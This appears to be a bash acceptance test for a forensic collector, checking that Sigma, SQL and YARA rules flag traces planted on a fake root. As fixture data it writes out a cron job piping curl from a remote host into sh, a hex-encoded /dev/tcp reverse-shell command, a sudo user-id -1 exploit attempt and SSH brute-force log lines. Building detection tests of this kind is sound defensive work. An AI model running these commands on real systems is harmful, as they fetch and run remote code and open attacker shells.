#!/usr/bin/env bash
# Issue #17's acceptance traces on a fake root, collected with a profile that enables the three
# engines as compromise-assessment does (built-in Sigma, SQL and YARA rules; without its memory
# scan, which would read this host's live processes): an auth.log with a sudo -u#-1 attempt and an SSH brute
# force, an audit.log with a hex-encoded reverse-shell EXECVE, a cron job piping curl into sh
# (and cron's own log line running it), each next to near misses. Exactly the expected Sigma
# matches and findings appear, in case.db and live/triage/; biunzip triage gives the same on
# the extracted folder and on the package itself.
source "$TEST_HELPERS"

R=$PWD/root
mkdir -p $R/etc/cron.d $R/var/log/audit
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' >$R/etc/passwd
printf 'root:*:19000:0:99999:7:::\nalice:$6$x$y:19000:0:99999:7:::\n' >$R/etc/shadow
printf '*/5 * * * * root curl -s http://203.0.113.5/u.sh | sh\n17 * * * * root run-parts /etc/cron.hourly\n' \
  >$R/etc/cron.d/update
{
  echo 'Dec  1 10:00:00 web sshd[900]: Accepted publickey for alice from 198.51.100.4 port 50000 ssh2'
  echo 'Dec  1 10:01:00 web sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/bash'
  echo 'Dec  1 10:01:05 web sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id'
  for i in 1 2 3 4 5; do
    echo "Dec  1 10:02:0$i web sshd[901]: Failed password for invalid user admin$i from 203.0.113.50 port 4000$i ssh2"
  done
  echo 'Dec  1 10:02:06 web sshd[901]: Failed password for alice from 203.0.113.50 port 40006 ssh2'
  echo 'Dec  1 10:02:07 web sshd[901]: error: maximum authentication attempts exceeded for invalid user admin5 from 203.0.113.50 port 40005 ssh2 [preauth]'
} >$R/var/log/auth.log
{
  echo 'Dec  1 10:04:01 web CRON[1233]: (root) CMD (run-parts /etc/cron.hourly)'
  echo 'Dec  1 10:05:01 web CRON[1234]: (root) CMD (curl -s http://203.0.113.5/u.sh | sh)'
} >$R/var/log/syslog
hex() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n' | tr a-f A-F; }
{
  echo 'type=SYSCALL msg=audit(1764583200.100:51): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4242 auid=1000 uid=0 comm="bash" exe="/usr/bin/bash" key="exec"'
  echo "type=EXECVE msg=audit(1764583200.100:51): argc=3 a0=\"bash\" a1=\"-c\" a2=$(hex 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')"
  echo 'type=CWD msg=audit(1764583200.100:51): cwd="/root"'
  echo 'type=EOE msg=audit(1764583200.100:51): '
  echo 'type=SYSCALL msg=audit(1764583201.200:52): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4243 auid=1000 uid=0 comm="ls" exe="/usr/bin/ls" key="exec"'
  echo "type=EXECVE msg=audit(1764583201.200:52): argc=2 a0=\"ls\" a1=$(hex '/root/my notes')"
  echo 'type=EOE msg=audit(1764583201.200:52): '
} >$R/var/log/audit/audit.log

cat >ca.yaml <<'EOF2'
name: ca-on-root
description: compromise-assessment's engines on a mounted root
artifacts: [users, shadow_meta, persistence_cron, var_log]
triage:
  enabled: true
  scan: ["/etc/cron*"]
  sigma: true
  sql_rules: true
EOF2
expect_exit 0 timeout 120 "$COLLECTOR" --root "$R" --profile ca.yaml --no-encrypt --case-dir cases --quiet
pkg=$OUT
unpack "$pkg" out

sigma_q="select title || ' @' || source_file || ':' || line from sigma_matches order by source_file, line"
want_sigma=$(cat <<'EOF2'
Shell redirected to a /dev/tcp or /dev/udp socket @/var/log/audit/audit.log:1
Sudo run as user id -1 (CVE-2019-14287) @/var/log/auth.log:2
SSH password guess for an account that does not exist @/var/log/auth.log:4
SSH password guess for an account that does not exist @/var/log/auth.log:5
SSH password guess for an account that does not exist @/var/log/auth.log:6
SSH password guess for an account that does not exist @/var/log/auth.log:7
SSH password guess for an account that does not exist @/var/log/auth.log:8
SSH connection dropped after too many authentication failures @/var/log/auth.log:10
Cron ran a download piped into a shell @/var/log/syslog:2
EOF2
)
got=$(sqlite3 out/case.db "$sigma_q")
[[ $got == "$want_sigma" ]] || fail "sigma_matches differ:
$(diff <(echo "$want_sigma") <(echo "$got"))"
ok "sigma_matches holds exactly the 9 planted matches"

eq "$(sqlite3 out/case.db "select json_extract(event, '\$.CommandLine') from sigma_matches where source_file like '%audit.log'")" \
  "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" "decoded command line"
eq "$(sqlite3 out/case.db "select level || ' ' || status || ' ' || logsource || ' ' || time || ' ' || tags from sigma_matches where source_file like '%audit.log'")" \
  'critical experimental linux/process_creation/ 2025-12-01T10:00:00Z ["attack.execution","attack.command_and_control","attack.t1059.004","attack.t1095"]' \
  "the audit match's level, status, log source, time and tags"
eq "$(jq -s 'length' out/live/triage/sigma.jsonl)" 9 "sigma.jsonl rows"
eq "$(jq -r -s 'map(select(.source_file == "/var/log/auth.log" and .line == 2)) | .[0].event.USER' out/live/triage/sigma.jsonl)" "#-1" "sudo USER field"
ok "each match has its decoded event fields, level, status, tags, log source and time (case.db and sigma.jsonl)"

findings_q="select engine || ' ' || rule_id || ' ' || severity || ' ' || coalesce(attack_techniques, '') || ' ' || object from findings order by engine, object, rule_id"
want_findings=$(cat <<'EOF2'
sigma 9aa8cb35-ff5d-5fa5-9be6-6417dc487c10 critical T1059.004,T1095 /var/log/audit/audit.log:1
sigma fba617bb-805b-5721-a0a8-fb75c767764f medium T1110 /var/log/auth.log:10
sigma 9b49826c-94b8-593b-9487-4381fabe402a high T1068 /var/log/auth.log:2
sigma 7e3775e0-f7e8-57ac-bdf0-ff1ba022789b low T1110.001 /var/log/auth.log:4
sigma 7e3775e0-f7e8-57ac-bdf0-ff1ba022789b low T1110.001 /var/log/auth.log:5
sigma 7e3775e0-f7e8-57ac-bdf0-ff1ba022789b low T1110.001 /var/log/auth.log:6
sigma 7e3775e0-f7e8-57ac-bdf0-ff1ba022789b low T1110.001 /var/log/auth.log:7
sigma 7e3775e0-f7e8-57ac-bdf0-ff1ba022789b low T1110.001 /var/log/auth.log:8
sigma c03dfdfa-6193-5b45-abfe-da1591b1743a high T1053.003,T1105 /var/log/syslog:2
sql ppc-sql-cron-download-run high T1053.003,T1105 /etc/cron.d/update:1
yara persistence:cron_fetch_and_run high T1053.003 /etc/cron.d/update
yara persistence:download_piped_to_shell high T1105 /etc/cron.d/update
yara persistence:download_piped_to_shell high T1105 /var/log/syslog
EOF2
)
got=$(sqlite3 out/case.db "$findings_q")
[[ $got == "$want_findings" ]] || fail "findings differ:
$(diff <(echo "$want_findings") <(echo "$got"))"
eq "$(sqlite3 out/case.db "select count(*) from findings f join sigma_matches m on m.rowid = f.source_rowid where f.engine = 'sigma' and f.source_table = 'sigma_matches' and f.rule_id = m.rule_id and f.object = m.source_file || ':' || m.line")" 9 \
  "sigma findings pointing at their sigma_matches rows"
eq "$(sqlite3 out/case.db "select attack_tactics from findings where engine = 'yara' and rule_id like '%cron_fetch_and_run'")" \
  "execution,persistence,privilege-escalation" "YARA tactics from the technique"
eq "$(jq -s 'length' out/live/triage/findings.jsonl)" 13 "findings.jsonl rows"
ok "findings: the 9 Sigma matches, the cron SQL rule and the 3 YARA matches of the planted cron job and its log line, nothing else"

# The lab: biunzip triage on the extracted folder rebuilds the same tables from the same logs.
findings_before=$(sqlite3 out/case.db "$findings_q")
sqlite3 out/case.db "drop table sigma_matches; drop table findings"
expect_exit 0 "$BIUNZIP" triage out
contains "$OUT" "sigma: 14 rules, 3 logs"
contains "$OUT" "findings: 13, critical: 1, high: 6, medium: 1, low: 5"
eq "$(sqlite3 out/case.db "$sigma_q")" "$want_sigma" "biunzip triage DIR: sigma_matches"
eq "$(sqlite3 out/case.db "$findings_q")" "$findings_before" "biunzip triage DIR: findings"
expect_exit 0 "$BIUNZIP" triage out
eq "$(sqlite3 out/case.db "select count(*) from findings")" 13 "findings after a second triage"
ok "biunzip triage DIR adds the same sigma_matches and findings to the folder's case.db (and again)"

expect_exit 0 "$BIUNZIP" triage "$pkg" -o lab.db
eq "$(sqlite3 lab.db "$sigma_q")" "$want_sigma" "biunzip triage PKG: sigma_matches"
eq "$(sqlite3 lab.db "$findings_q")" "$findings_before" "biunzip triage PKG: findings"
expect_exit 14 "$BIUNZIP" triage "$pkg" -o lab.db
ok "biunzip triage PKG writes its case.db with the same tables to -o FILE (never overwritten)"

printf 'title: broken\nlogsource: {product: linux}\ndetection: {sel: {a|nosuchmodifier: x}, condition: sel}\n' >bad.yml
expect_exit 2 "$BIUNZIP" triage out --sigma bad.yml
contains "$ERR" "bad.yml:3: 'a|nosuchmodifier': unknown modifier"
expect_exit 2 "$COLLECTOR" --root "$R" --profile none --sigma bad.yml --no-encrypt --case-dir cases-bad
contains "$ERR" "bad.yml:3: 'a|nosuchmodifier': unknown modifier"
[[ ! -e cases-bad ]] || [[ -z $(ls cases-bad) ]] || fail "a package was written"
ok "a Sigma rule that does not load stops collector and biunzip triage with exit 2, file:line and reason"
